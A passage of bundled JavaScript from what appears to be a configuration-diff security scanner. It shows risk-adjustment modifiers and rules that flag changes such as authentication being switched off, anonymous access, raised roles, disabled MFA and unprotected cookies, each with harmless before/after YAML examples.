    -1,
    ({ isNarrower }, risk) => isNarrower === true && compareRisk(risk, "high") < 0 ? "One step lower, for the role holds in one namespace now." : void 0
  ),
  forRoles(
    "named-object",
    -1,
    ({ object: object2 }) => object2 === void 0 ? void 0 : `One step lower, for it is bound to \`${object2}\`.`
  ),
  forRoles(
    "own-token",
    -1,
    ({ power, object: object2, role: role6 }) => power === "create-tokens" && object2 !== void 0 && role6.endsWith(`/${object2}`) ? "One step lower, for it is bound to an account of the same name." : void 0
  ),
  forRoles(
    "own-object",
    -1,
    ({ power, object: object2, role: role6 }) => power === "read-secrets" && object2 !== void 0 && object2.startsWith(`${role6.slice(role6.indexOf("/") + 1)}-`) ? "One step lower, for the object goes by the name of the role." : void 0
  ),
  forRoles(
    "system-namespace",
    1,
    ({ power, resource: resource3, namespace: namespace2 }) => namespace2 === "kube-system" && power === "write" && resource3 === "configmaps" ? "One step higher, for the cluster keeps its own settings in `kube-system`." : void 0
  ),
  // Giving `view` the custom objects of an operator is what aggregation is for: only what is grave weighs more.
  forRoles(
    "aggregated-role",
    1,
    ({ aggregatedTo: aggregatedTo2, power, apiGroup }, risk) => aggregatedTo2 === void 0 || compareRisk(risk, "high") < 0 || power === "wildcard" && apiGroup.includes(".") ? void 0 : `One step higher, for every holder of \`${aggregatedTo2}\` gets it.`
  ),
  {
    id: "mitigated-grant",
    adjust: (change, risk) => change.kind === "role-widened" && change.mitigation !== void 0 ? mitigated2(risk, change.mitigation) : void 0
  }
];

// src/domains/config/modifiers.ts
function areaOfChange(change) {
  if (change.kind === "file-unreadable") return areaOf(change.subject);
  return change.area;
}
var pathOf = ({ after, before: before3 }) => after?.path ?? before3?.path ?? "";
var isProven = (change) => change.kind === "secret-written" && change.by === "format" && !isLogin(change.looks) && !SELF_MADE.has(change.looks);
var SELF_MADE = /* @__PURE__ */ new Set(["private key", "JSON web token"]);
var isMadeUp = (change) => change.kind === "secret-written" && !isProven(change) || change.kind === "secret-committed" && change.what === "value";
var isOfTest = (change) => isTest(pathOf(change));
var GRANTS = /* @__PURE__ */ new Set(["role-widened", "binding-widened", "binding-role-changed"]);
var METRICS_TLS = /\b(?:metricsE|podMetricsE|e)ndpoints\[[^\]]*\]\.tlsConfig\.insecureSkipVerify$/;
var COPIED = /(?:^|\/)(?:vendor|node_modules)\//;
var moving = (move) => (id, applies, note) => ({
  id,
  adjust: (change, risk) => applies(change) ? { risk: move(risk), note } : void 0
});
var atMostLow2 = moving((risk) => capRisk(risk, "low"));
var atMostMedium = moving((risk) => capRisk(risk, "medium"));
var oneLower = moving((risk) => shiftRisk(risk, -1));
var modifiers = [
  ...roleModifiers,
  ...definitionModifiers,
  atMostLow2(
    "chosen-when-new",
    (change) => change.kind === "control-moved" && change.condition !== void 0 && change.transition === "born",
    "Not more than low, for it is new, and a condition chooses it."
  ),
  moving((risk) => capRisk(shiftRisk(risk, -1), "medium"))(
    "under-a-condition",
    (change) => change.kind === "control-moved" && change.condition !== void 0 && change.transition !== "born",
    "One step lower, and not more than medium, for the template sets it on demand only."
  ),
  atMostLow2(
    "metrics-endpoint",
    (change) => change.kind === "control-moved" && change.transition === "born" && METRICS_TLS.test(change.subject),
    "Not more than low, for only metrics are read there, which are new."
  ),
  atMostLow2(
    "type-of-kubernetes",
    (change) => change.kind === "api-changed" && change.isOfKubernetes === true,
    "Not more than low, for it is a type of Kubernetes itself, and follows its release."
  ),
  atMostLow2(
    "asked-first",
    (change) => change.kind === "api-version-moved" && change.isAskedFor === true,
    "Not more than low, for the template asks first whether to render it."
  ),
  atMostMedium(
    "file-of-settings",
    (change) => change.kind === "api-version-moved" && change.isOlder && !change.object.includes("/"),
    "Not more than medium, for a program reads it, and no cluster keeps it."
  ),
  atMostMedium(
    "granted-on-demand",
    (change) => change.kind === "policy-widened" && change.onDemand && change.by !== "deny",
    "Not more than medium, for a condition of the template decides."
  ),
  oneLower(
    "test-path",
    (change) => areaOfChange(change) === "test" && !isProven(change),
    "One step lower, for its path is that of tests or examples."
  ),
  oneLower(
    "secret-of-example",
    (change) => isMadeUp(change) && areaOfChange(change) === "test" && !isOfTest(change),
    "One more, for examples make up the secrets they need."
  ),
  atMostLow2(
    "secret-of-test",
    (change) => isMadeUp(change) && areaOfChange(change) === "test" && isOfTest(change),
    "Not more than low, for tests make up the secrets they need."
  ),
  atMostLow2(
    "file-of-tests",
    (change) => isForTests(pathOf(change)) && !isProven(change) && change.kind !== "file-unreadable",
    "Not more than low, for nothing but a test reads it."
  ),
  atMostLow2(
    "rights-of-a-test",
    (change) => GRANTS.has(change.kind) && isOfTest(change),
    "Not more than low, for only a test gets it."
  ),
  atMostLow2(
    "api-version-of-a-test",
    (change) => change.kind === "api-version-moved" && isOfTest(change),
    "Not more than low, for no cluster but that of a test is asked for it."
  ),
  atMostLow2(
    "definition-of-a-test",
    (change) => change.kind === "crd-broken" && isOfTest(change),
    "Not more than low, for only a test makes objects of it."
  ),
  atMostLow2(
    "guard-of-a-test",
    (change) => change.kind === "guard-removed" && change.area === "test",
    "Not more than low, for it goes with a test or an example."
  ),
  atMostLow2(
    "renamed-example",
    (change) => change.kind === "object-renamed" && change.area === "test",
    "Not more than low, for nobody keeps what an example made."
  ),
  oneLower(
    "copied-path",
    (change) => COPIED.test(pathOf(change)),
    "One more, for it is a copy of what others publish."
  ),
  moving((risk) => shiftRisk(risk, -2))(
    "expected-output",
    (change) => isExpected(pathOf(change)) && !isProven(change),
    "Two more, for it is what a test tries or expects, and is applied nowhere."
  ),
  {
    id: "production-path",
    adjust: (change, risk) => areaOfChange(change) === "production" && risk !== "info" ? { risk: shiftRisk(risk, 1), note: "One step higher, for its path is that of production." } : void 0
  }
];

// src/domains/config/moves.ts
function withMoves(edits) {
  const origin = new Map([...regrouped(edits), ...alone(edits)]);
  if (origin.size === 0) return edits;
  const departed = new Set(origin.values());
  let spoken;
  return edits.flatMap((edit) => {
    const path27 = displayPath(edit.setting.path);
    if (edit.kind === "inside" && spoken !== void 0 && isBelow4(path27, spoken)) return [];
    const from3 = origin.get(edit);
    spoken = from3 !== void 0 || departed.has(edit) ? path27 : void 0;
    if (from3 === void 0) return departed.has(edit) ? [] : [edit];
    const { before: before3, ownerBefore } = from3.setting;
    return [
      {
        kind: "moved",
        setting: { ...edit.setting, before: before3, ownerBefore },
        from: displayPath(from3.setting.path)
      }
    ];
  });
}
var isBelow4 = (path27, above) => path27.startsWith(`${above}.`) || path27.startsWith(`${above}[`);
function alone(edits) {
  const gone3 = uniqueBySense(edits, "removed");
  const come = uniqueBySense(edits, "added");
  return new Map(
    [...come].flatMap(([sense, added2]) => {
      const removed2 = gone3.get(sense);
      return added2 && removed2 ? [[added2, removed2]] : [];
    })
  );
}
function uniqueBySense(edits, kind) {
  const found = /* @__PURE__ */ new Map();
  for (const edit of edits) {
    const sense = edit.kind === kind ? senseOf3(edit, 3) : void 0;
    if (sense !== void 0) found.set(sense, found.has(sense) ? void 0 : edit);
  }
  return found;
}
function senseOf3({ setting: { before: before3, after, path: path27 } }, leastSize) {
  const [node, last] = [before3 ?? after, path27.at(-1)];
  if (node === void 0 || last?.kind !== "key") return void 0;
  if (node.kind === "scalar" ? isTrivial(node.text) : node.size < leastSize) return void 0;
  return `${last.name}
${signature(node)}`;
}
function regrouped(edits) {
  const roots = new Map(edits.flatMap((edit) => isRoot(edit) ? [[`${edit.kind} ${placeOf2(edit, -1)}`, edit]] : []));
  const origin = /* @__PURE__ */ new Map();
  for (const edit of roots.size < 2 ? [] : edits.filter(({ kind }) => kind === "inside")) {
    const came = edit.setting.after !== void 0;
    const root = roots.get(`${came ? "removed" : "added"} ${placeOf2(edit, -2)}`);
    const sense = root && senseOf3(root, 2);
    if (root === void 0 || sense === void 0 || sense !== senseOf3(edit, 2)) continue;
    const [now, old] = came ? [edit, root] : [root, edit];
    if (!origin.has(now)) origin.set(now, old);
  }
  return origin;
}
var isRoot = ({ kind }) => kind === "added" || kind === "removed";
function placeOf2({ setting: { path: path27 } }, above) {
  const last = path27.at(-1);
  return `${displayPath(path27.slice(0, above))} ${last?.kind === "key" ? last.name : ""}`;
}

// src/domains/config/pair-documents.ts
var RENAMED3 = 0.6;
function pairDocuments(files2, dialects2) {
  const known2 = files2.map(({ before: before3, after }, file) => ({
    before: know(before3, file, dialects2),
    after: know(after, file, dialects2)
  }));
  const within4 = known2.map(({ before: before3, after }) => byIdentity(before3, after));
  const across = byIdentity(
    within4.flatMap(({ before: before3 }) => before3),
    within4.flatMap(({ after }) => after)
  );
  const rest = files2.flatMap(
    (_, file) => byLikeness(
      across.before.filter((each) => each.file === file),
      across.after.filter((each) => each.file === file)
    )
  );
  const pairs = [...within4.flatMap(({ matched }) => matched), ...across.matched, ...rest];
  return withoutCopies(pairs, known2.flatMap(({ after }) => after).filter(hasIdentity));
}
function withoutCopies(pairs, head) {
  const standing = new Map(head.map((known2) => [known2.identity, known2.document.root]));
  return pairs.filter(({ before: before3, after }) => {
    const still = after === void 0 ? standing.get(before3?.identity ?? "") : void 0;
    return before3 === void 0 || still === void 0 || likeness(before3.document.root, still) < RENAMED3;
  });
}
function know(file, index, dialects2) {
  return (file?.documents ?? []).map((document, position) => {
    const dialect30 = dialects2.find((each) => each.recognises(document));
    const identity = dialect30?.identity?.(document);
    const title = file?.several ? dialect30?.title?.(document) ?? `document ${position + 1}` : void 0;
    return { document, dialect: dialect30, identity: identity && `${dialect30?.name}:${identity}`, title, file: index };
  });
}
function byIdentity(before3, after) {
  const [old, now] = [before3.filter(hasIdentity), after.filter(hasIdentity)];
  const { matched, removed: removed2, added: added2 } = compare(old, now, ({ identity }) => identity);
  return {
    matched,
    before: [...removed2, ...before3.filter((each) => !hasIdentity(each))],
    after: [...added2, ...after.filter((each) => !hasIdentity(each))]
  };
}
var hasIdentity = (known2) => known2.identity !== void 0;
function byLikeness(before3, after) {
  const single = onlyPair(before3, after);
  if (single !== void 0) return [single];
  const { matched, removed: removed2, added: added2 } = compare(before3, after, ({ document }) => signature(document.root));
  const left = onlyPair(removed2, added2);
  if (left !== void 0) return [...matched, left];
  return [...matched, ...pairByLikeness(removed2, added2, ({ document }) => document.root, RENAMED3)];
}
function onlyPair(before3, after) {
  const [old, now] = [before3[0], after[0]];
  const areTwo = before3.length !== 1 || after.length !== 1;
  return areTwo || old === void 0 || now === void 0 || hasIdentity(old) || hasIdentity(now) ? void 0 : { before: old, after: now };
}

// src/domains/config/readers/conditions.ts
async function withoutMetConditions(facts, { head }) {
  const asking2 = facts.filter((fact4) => isConditional(fact4) || isFilledIn2(fact4));
  const paths2 = new Set(asking2.flatMap((fact4) => valuesBeside(fact4) ?? []));
  const values3 = new Map(
    await Promise.all([...paths2].map(async (path27) => [path27, rootOf2(await hintIn(head, path27), path27)]))
  );
  const isMet = (fact4) => {
    const root = values3.get(valuesBeside(fact4) ?? "");
    return root !== void 0 && fact4.condition !== void 0 && holdsWith(fact4.condition, root);
  };
  const met = new Set(facts.filter(isConditional).filter(isMet).map(causeOf3));
  const changed4 = facts.filter(
    (fact4) => !isFilledIn2(fact4) || !isFilledAlike(fact4, values3.get(valuesBeside(fact4) ?? ""))
  );
  return changed4.map((fact4) => {
    if (fact4.kind !== "control-moved") return fact4;
    const { condition: condition2, ...rest } = fact4;
    const told5 = condition2 === void 0 || isMet(fact4) ? rest : fact4;
    return met.has(causeOf3(fact4)) ? { ...told5, group: causeOf3(fact4) } : told5;
  });
}
var causeOf3 = (fact4) => `${fact4.control} ${valuesBeside(fact4) ?? fact4.after?.path}`;
var isConditional = (fact4) => fact4.kind === "control-moved" && fact4.condition !== void 0;
var FILLED_IN = /^\{\{-?\s*\$?\.Values((?:\.\w+)+)\s*(?:\|\s*s?quote\s*)?-?\}\}$/;
var isFilledIn2 = (fact4) => fact4.kind === "control-moved" && fact4.transition === "template" && FILLED_IN.test(fact4.to ?? "");
function isFilledAlike({ from: from3, to }, values3) {
  const [, keys = ""] = FILLED_IN.exec(to ?? "") ?? [];
  const filled = at(values3, ...keys.slice(1).split("."));
  return filled?.kind === "scalar" && filled.text.toLowerCase() === from3?.toLowerCase();
}
function valuesBeside({ after }) {
  const [, folder] = /^((?:.*\/)?)templates\//.exec(after?.path ?? "") ?? [];
  return folder === void 0 ? void 0 : `${folder}values.yaml`;
}
function rootOf2(text, path27) {
  try {
    return text === void 0 ? void 0 : parse(text, path27).documents[0]?.root;
  } catch (error) {
    return noneIfUnreadable(error);
  }
}

// src/domains/config/readers/charts.ts
var MOST_TEMPLATES = 500;
var LONGEST12 = 3e5;
async function readsOfChart(tree, folder) {
  const paths2 = await tree.list(folder === "" ? "templates" : `${folder}/templates`);
  if (paths2.length > MOST_TEMPLATES) return [];
  const found = await Promise.all(paths2.map(async (path27) => readsIn(await hintIn(tree, path27) ?? "", path27)));
  const reads = found.flat();
  const subcharts = reads.length === 0 ? /* @__PURE__ */ new Set() : await subchartsOf(tree, folder);
  return reads.filter(({ keys }) => !subcharts.has(keys[0] ?? ""));
}
async function subchartsOf(tree, folder) {
  const files2 = ["Chart.yaml", "requirements.yaml"].map((name) => folder === "" ? name : `${folder}/${name}`);
  const texts = await Promise.all(files2.map((path27) => hintIn(tree, path27)));
  const names2 = texts.flatMap((text) => [...(text ?? "").matchAll(NAME2)].map(([, name = ""]) => name));
  return /* @__PURE__ */ new Set(["global", ...names2]);
}
var NAME2 = /^[ \t-]*(?:name|alias):[ \t]*["']?([\w-]+)/gm;
var VALUES2 = /(?<![\w.)])\$?\.Values((?:\.[A-Za-z_]\w*)+)/g;
var BARE = /^\$?\.Values[\w.]+(?:\s*\|\s*(?:quote|squote|int|int64|trim|toString|upper|lower|b64enc|n?indent \d+))*$/;
var OPENS4 = /^(?:if|with|range|define|block)\b/;
function readsIn(text, path27) {
  if (text.length > LONGEST12) return [];
  const reads = [];
  const around = [];
  for (const { start, end, line } of actionsByLine(text)) {
    const words2 = text.slice(start, end).replace(/^\{\{-?/, "").replace(/-?\}\}$/, "").trim();
    if (words2.startsWith("/*")) continue;
    const named4 = [...words2.matchAll(VALUES2)].map(([, keys = ""]) => keys.slice(1));
    if (/^(?:end|else)\b/.test(words2)) around.pop();
    for (const keys of named4) {
      const guards2 = [...around.flat(), ...named4.filter((other) => other !== keys)];
      reads.push({ path: path27, line, keys: keys.split("."), guards: guards2, isBare: BARE.test(words2) });
    }
    if (OPENS4.test(words2) || /^else\b/.test(words2)) around.push(named4);
  }
  return reads;
}

// src/domains/config/readers/readers.ts
var evidenceFor = (edits, input2) => edits.some(({ kind }) => kind === "renamed") || mayHoldRename(edits) ? evidenceIn(input2) : noEvidence;
function mayHoldRename(edits) {
  const parents = (kind) => edits.flatMap(
    ({ kind: is, setting: { document, path: path27 } }) => is === kind && path27.at(-1)?.kind === "key" ? [`${document.path} ${displayPath(path27.slice(0, -1))}`] : []
  );
  const losing = new Set(parents("removed"));
  return losing.size > 0 && parents("added").some((parent) => losing.has(parent));
}
async function withStillRead(edits, { head }) {
  const folder = edits.some(isGone) ? chartOf(edits[0]?.setting.document.after?.path) : void 0;
  if (folder === void 0) return edits;
  const reads = await readsOfChart(head, folder);
  return reads.length === 0 ? edits : edits.map((edit) => isGone(edit) ? marked(edit, reads) : edit);
}
var chartOf = (path27 = "") => /^(.*\/)?values\.ya?ml$/.exec(path27)?.[0].replace(/\/?[^/]*$/, "");
var isGone = ({ kind, setting: { path: path27 } }) => (kind === "removed" || kind === "renamed" || kind === "moved") && path27.every((step2) => step2.kind === "key");
function marked(edit, reads) {
  const { keys } = edit.setting;
  const [old, now] = edit.kind === "removed" ? [keys, void 0] : [oldKeys(edit), keys];
  const stillRead = readOf(old, now, reads);
  return stillRead === void 0 ? edit : { ...edit, stillRead };
}
var oldKeys = ({ kind, from: from3 = "", setting: { keys } }) => kind === "moved" ? from3.split(".") : [...keys.slice(0, -1), from3];
function readOf(old, now, reads) {
  const gone3 = old.join(".");
  const own = reads.filter(({ keys }) => beginsWith(keys, old));
  const guarded = ({ guards: guards2 }) => guards2.some((guard2) => guard2 === gone3 || gone3.startsWith(`${guard2}.`));
  const fails = own.find((read3) => read3.keys.length > old.length && !guarded(read3));
  if (fails) return { path: fails.path, line: fails.line, fails: true };
  const isHalfDone = now !== void 0 && !reads.some(({ keys }) => beginsWith(keys, now));
  const suffers = isHalfDone ? own[0] : own.find((read3) => read3.isBare && !read3.guards.includes(gone3));
  return suffers && { path: suffers.path, line: suffers.line, fails: false };
}
var beginsWith = (keys, start) => start.every((key3, i) => keys[i] === key3);

// src/domains/config/vocabulary.ts
var spellings = /* @__PURE__ */ new WeakMap();
function spelled(setting) {
  const known2 = spellings.get(setting) ?? wordsOf(setting.name).join("-");
  spellings.set(setting, known2);
  return known2;
}
var SWITCH = "(?:-(?:enabled?|enforced?|required?|active|activated|mode|on))?";
function endsIn(words2) {
  const pattern = new RegExp(`(?:^|-)(?:${words2})${SWITCH}$`);
  return (setting) => pattern.test(spelled(setting));
}
function protects(words2) {
  const isNamed2 = endsIn(words2);
  return (setting) => isNamed2(setting) && !isNegative(setting.name);
}
var blockOr = (rank2) => (node, { path: path27 }) => {
  if (node.kind === "scalar") return rank2(node);
  const last = path27.at(-1);
  if (node.kind !== "map" || node.entries.size === 0 || last?.kind !== "key") return void 0;
  const switches = ["enabled", "enable"].map((key3) => switchOf(at(node, key3))).filter((on3) => on3 !== void 0);
  if (switches.length > 0) return Number(switches[0]);
  return wordsOf(last.name).length === 1 || last.name.endsWith("transport-security") ? 1 : void 0;
};
var plainFile = (text) => `name: app
${text}
`;

// src/domains/config/wording.ts
function movement({ transition, name, from: from3, to }) {
  if (transition === "born") return `\`${name}\` is new and set to \`${to}\``;
  if (transition === "drop" && from3 === void 0) return `A patch takes away \`${name}\``;
  if (from3 === void 0) return `\`${name}\` is now set to \`${to}\``;
  if (to === void 0) return `\`${name}\` is no longer set; it was \`${from3}\``;
  if (transition === "template") return `\`${name}\` was \`${from3}\` and is now filled in by \`${to}\``;
  return `\`${name}\` goes from \`${from3}\` to \`${to}\``;
}
var removal3 = ({ name, others = 0 }) => `\`${name}\` ${others === 0 ? "was" : `and ${others} more were`} removed`;

// src/domains/config/weakening.ts
var TEMPLATE3 = "{{ .Values.setting }}";
function weakWhenSet({ risk, praise, weak, safe, path: path27, file }) {
  const example = examples(path27);
  return {
    absent: 1,
    outcomes: {
      flip: moved2(risk),
      open: moved2(risk),
      born: moved2(shiftRisk(risk, -1)),
      template: moved2(capRisk(risk, "medium")),
      hardened: hardened(praise)
    },
    examples: [
      example(file(safe), file(weak), "flip"),
      example(file(""), file(weak), "open"),
      example("", file(weak), "born"),
      example(file(safe), file(templated(safe)), "template"),
      example(file(weak), file(""), "hardened"),
      example(file(""), file(safe), "none"),
      example(file(weak), "", "none")
    ]
  };
}
function safeWhenSet({ risk, dropped = risk, praise, weak, safe, path: path27, file }) {
  const example = examples(path27);
  return {
    absent: 0,
    outcomes: {
      flip: moved2(risk),
      drop: moved2(dropped),
      template: moved2(capRisk(risk, "medium")),
      hardened: hardened(praise)
    },
    examples: [
      example(file(safe), file(weak), "flip"),
      example(file(safe), file(""), "drop"),
      example(file(safe), file(templated(safe)), "template"),
      example(file(""), file(safe), "hardened"),
      example("", file(weak), "none"),
      example(file(safe), "", "none")
    ]
  };
}
function safeWhenOn({ risk, dropped = risk, praise, weak, safe, path: path27, file }) {
  const example = examples(path27);
  return {
    outcomes: {
      flip: moved2(risk),
      drop: moved2(dropped),
      template: moved2(capRisk(risk, "medium")),
      hardened: hardened(praise)
    },
    examples: [
      example(file(safe), file(weak), "flip"),
      example(file(safe), file(""), "drop"),
      example(file(safe), file(templated(safe)), "template"),
      example(file(weak), file(safe), "hardened"),
      example(file(""), file(weak), "none"),
      example(file(""), file(safe), "none"),
      example(file(safe), "", "none")
    ]
  };
}
var safeOn = (node) => rankOf4(switchOf(node));
var safeOff = (node) => rankOf4(invert(switchOf(node)));
var unless = (weak) => (node) => node.kind === "scalar" ? Number(node.text !== weak) : void 0;
function present(node) {
  if (node.kind === "map") return node.entries.size > 0 ? 1 : void 0;
  return node.kind === "list" && node.items.length > 0 ? 1 : void 0;
}
var untouched = (node, { before: before3 }) => Number(node === before3);
var ordered = (order) => (node) => {
  const place2 = node.kind === "scalar" ? order.indexOf(node.text) : -1;
  return place2 < 0 ? void 0 : order.length - 1 - place2;
};
var rankOf4 = (on3) => on3 === void 0 ? void 0 : Number(on3);
var invert = (on3) => on3 === void 0 ? void 0 : !on3;
var moved2 = (risk) => ({ risk, message: (c) => `${movement(c)}.` });
var removed = (risk, what) => ({
  risk,
  message: () => `The ${what} was removed.`
});
var added = (title, what) => ({
  ...hardened(title),
  message: () => `The ${what} is new.`
});
var hardened = (title) => ({
  ...moved2("info"),
  class: "hardening",
  title,
  why: "The new value is the safer one.",
  fix: "Keep it; watch the first rollout for what relied on the old value."
});
var templated = (text) => text.replace(/([^\s:[\]{}=]*=)?[^\s:[\]{}=]+(?=[\s}\]]*$)/, (_, flag = "") => `'${flag}${TEMPLATE3}'`);
var examples = (path27) => (before3, after, outcome) => ({
  ...path27 === void 0 ? {} : { path: path27 },
  before: before3,
  after,
  outcome
});

// src/domains/config/rules/application/access.ts
var isAuthentication = protects(
  "auth|authentication|authorization|authn|authz|csrf|login|acl|require-auth|require-login|protected-mode|xpack-security|access-control|basic-auth|oauth|oidc"
);
var isRoleCheck = (setting) => setting.document.dialect !== "helm-values" && protects("rbac")(setting);
var OPEN_DOORS = /^(?:anonymous|noop|allow-?all|always-?allow|trust|permit-?all)$/i;
function authenticates(node) {
  if (node.kind !== "scalar" || node.value === null) return void 0;
  return Number(switchOf(node) !== false && !OPEN_DOORS.test(node.text));
}
var isAnonymous = endsIn(
  "anonymous|allow-anonymous|anonymous-(?:auth|access)|guest|allow-guest|guest-access|permit-all|public-access|publicly-accessible|open-registration|allow-unauthenticated|allow-sign-?up|(?:disable|skip|no|bypass)-(?:auth|authentication|authorization|login|csrf)|allow-(?:none|no|anonymous|empty)-(?:auth|authentication|login|password)"
);
var isProtection = protects(
  "read-?only|immutable|append-only|prevent-destroy|(?:deletion|termination)-protection|protected|delete-protection|block-public-(?:acls|policy|access)|ignore-public-acls|restrict-public-buckets"
);
var ROLES = [
  /^(?:owner|superuser|super-?admin|root|\*|all|full|full-?access)$/,
  /^(?:admin|administrator|cluster-?admin|sysadmin)$/,
  /^(?:maintain|maintainer|manager|operator)$/,
  /^(?:write|writer|edit|editor|developer|contributor|push|read-?write|rw)$/,
  /^(?:triage|comment|commenter)$/,
  /^(?:read|reader|read-?only|view|viewer|guest|reporter|pull|ro)$/,
  /^(?:none|no-?access|nobody)$/
];
var isRole2 = (name) => /(?:^|-)(?:role|access|access-level|permissions?|privileges?|grant|policy-default)$/.test(name);
function roleOf2(node) {
  const ranks = textsOf(node).map((text) => {
    const word = text.toLowerCase().replace(/^roles?[:/]/, "").replaceAll("_", "-");
    return ROLES.findIndex((role6) => role6.test(word));
  });
  return ranks.length === 0 || ranks.includes(-1) ? void 0 : Math.min(...ranks);
}
var isPowerful = (to) => /owner|super|admin|root|\*|\ball\b|full/i.test(to);
var access_default = [
  control({
    id: "config/authentication-disabled",
    class: "permission-widening",
    title: "authentication switched off",
    why: "Whoever reaches the service over the network is let in, without a name or a password.",
    fix: "Put it back; open single paths by name where something must be public.",
    governs: (setting) => isAuthentication(setting) || isRoleCheck(setting),
    rank: blockOr(authenticates),
    ...safeWhenOn({
      risk: "critical",
      dropped: "high",
      praise: "authentication switched on",
      weak: "auth: { enabled: false }",
      safe: "auth: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/anonymous-access",
    class: "permission-widening",
    title: "anonymous access allowed",
    why: "Requests of people nobody knows are answered.",
    fix: "Keep it off; give callers an identity with the least they need.",
    governs: isAnonymous,
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "anonymous access no longer allowed",
      weak: "allow_anonymous: true",
      safe: "allow_anonymous: false",
      file: plainFile
    })
  }),
  control({
    id: "config/protection-disabled",
    class: "permission-widening",
    title: "write or delete protection switched off",
    why: "What could only be read or kept can now be changed or deleted, by mistake or by an attacker.",
    fix: "Put the protection back; lift it for a single operation only.",
    governs: (setting) => isProtection(setting) && (setting.document.dialect !== "kubernetes" || setting.isNested),
    rank: safeOn,
    ...safeWhenOn({
      risk: "high",
      dropped: "medium",
      praise: "protection switched on",
      weak: "deletion_protection: false",
      safe: "deletion_protection: true",
      file: plainFile
    })
  }),
  control({
    id: "config/role-raised",
    class: "permission-widening",
    title: "role raised",
    why: "Whoever holds it, or takes over whoever holds it, can do more than before.",
    fix: "Grant the least that the task needs, to those who have the task.",
    governs: (setting) => isRole2(spelled(setting)),
    rank: roleOf2,
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip") return void 0;
      return isPowerful(to) ? "powerful" : "raised";
    },
    outcomes: { powerful: moved2("high"), raised: moved2("medium"), hardened: hardened("role lowered") },
    examples: [
      { before: "role: read-only", after: "role: admin", outcome: "powerful" },
      {
        before: 'policy: { default_role: "role:viewer" }',
        after: 'policy: { default_role: "role:admin" }',
        outcome: "powerful"
      },
      { before: "permissions: [read]", after: "permissions: [read, write]", outcome: "raised" },
      { before: "access: admin", after: "access: read", outcome: "hardened" },
      { before: "role: frontend", after: "role: backend", outcome: "none" },
      { before: "labels: { role: reader }", after: "labels: { role: admin }", outcome: "none" },
      { before: "name: app", after: "name: app\nrole: admin", outcome: "none" }
    ]
  }),
  control({
    id: "config/second-factor-disabled",
    class: "permission-widening",
    title: "second factor switched off",
    why: "A stolen or guessed password alone opens the account.",
    fix: "Require the second factor again.",
    governs: protects("mfa|2fa|two-factor|totp|webauthn|multi-factor(?:-auth(?:entication)?)?"),
    rank: safeOn,
    ...safeWhenOn({
      risk: "high",
      praise: "second factor required",
      weak: "require_mfa: false",
      safe: "require_mfa: true",
      file: plainFile
    })
  }),
  control({
    id: "config/cookie-unprotected",
    class: "exposure",
    title: "cookie no longer protected",
    why: "The session cookie can be read by scripts or sent in clear text, and with it the session is stolen.",
    fix: "Keep `secure`, `httpOnly` and `sameSite` on.",
    governs: (setting) => /(?:cookie|session)(?:-\w+)*-(?:secure|http-?only|same-?site)$/.test(spelled(setting)) || /^(?:secure|http-?only|same-?site)$/.test(spelled(setting)) && /cookie|session/i.test(setting.keys.at(-2) ?? ""),
    rank: (node) => node.kind === "scalar" && /^(?:strict|lax)$/i.test(node.text) ? 1 : safeOn(node),
    ...safeWhenOn({
      risk: "medium",
      praise: "cookie protected",
      weak: "cookie_secure: false",
      safe: "cookie_secure: true",
      file: plainFile
    })
  })
];

// src/domains/config/rules/application/accounts.ts
var UNITS2 = { ms: 1e-3, s: 1, m: 60, h: 3600, d: 86400, w: 604800 };
function amountOf(node) {
  const [, count3, unit = ""] = /^(\d{1,12})\s*(ms|[smhdw])?(?:in|our|ay)?s?$/i.exec(textsOf(node)[0] ?? "") ?? [];
  return count3 === void 0 ? void 0 : Number(count3) * (UNITS2[unit.toLowerCase()] ?? 1);
}
var asShort = (node, { before: before3 }) => {
  const [was, is] = [before3 && amountOf(before3), amountOf(node)];
  return was === void 0 || is === void 0 ? void 0 : Number(is <= 2 * was);
};
var PROOF = /(?:^|-)(?:jwt|access-token|refresh-token|id-token|token|session|cookie)(?:-\w+)*-(?:expir(?:y|ation|es)(?:-in|-time)?|ttl|timeout|max-age|lifetime|duration)$/;
var LIFE = /^(?:expir(?:y|ation|es)(?:-in|-time)?|ttl|timeout|max-age|lifetime|duration)$/;
var isLifetime = (setting) => PROOF.test(spelled(setting)) || LIFE.test(spelled(setting)) && /^(?:jwt|token|session|cookie|access_?token|refresh_?token)$/i.test(setting.keys.at(-2) ?? "");
var holdsNoMore = (node, { before: before3 }) => Number(textsOf(node).every((name) => textsOf(before3).includes(name)));
var accounts_default = [
  control({
    id: "config/administrator-added",
    class: "permission-widening",
    title: "one more administrator",
    why: "Whoever holds the account, or takes it over, may change everything.",
    fix: "Give the account the role its task needs, for as long as the task takes.",
    governs: (setting) => /(?:^|-)(?:admins?|administrators|admin-(?:users|groups|emails)|super-?users|super-?admins)$/.test(
      spelled(setting)
    ),
    rank: (node, setting) => node.kind === "list" ? holdsNoMore(node, setting) : void 0,
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: "admins: [ann]", after: "admins: [ann, bob]", outcome: "flip" },
      { before: "admins: [ann, bob]", after: "admins: [bob]", outcome: "none" },
      { before: "members: [ann]", after: "members: [ann, bob]", outcome: "none" }
    ]
  }),
  control({
    id: "config/made-public",
    class: "permission-widening",
    title: "made public",
    why: "Everybody may now see or use what was kept among few.",
    fix: "Keep it private, and invite those who need it.",
    governs: (setting) => /^(?:public|is-public|publicly-visible)$/.test(spelled(setting)),
    rank: safeOff,
    outcomes: { flip: moved2("high"), hardened: hardened("made private") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: "public: false", after: "public: true", outcome: "flip" },
      { before: "public: true", after: "public: false", outcome: "hardened" },
      { before: "name: app", after: "name: app\npublic: true", outcome: "none" }
    ]
  }),
  control({
    id: "config/password-no-longer-asked",
    class: "permission-widening",
    title: "password no longer asked for",
    why: "Whoever reaches the service over the network reads and writes all it holds.",
    fix: "Keep the password, or put the service where only its clients reach it.",
    governs: (setting) => /(?:^|-)(?:requirepass|require-pass|masterauth)$/.test(spelled(setting)),
    rank: (node) => Number(textsOf(node).join() !== ""),
    absent: 0,
    byPresence: true,
    // The value is a password: it is never shown.
    outcomes: {
      drop: { risk: "critical", message: (c) => `\`${c.name}\` is no longer set.` },
      flip: { risk: "critical", message: (c) => `\`${c.name}\` is now empty.` },
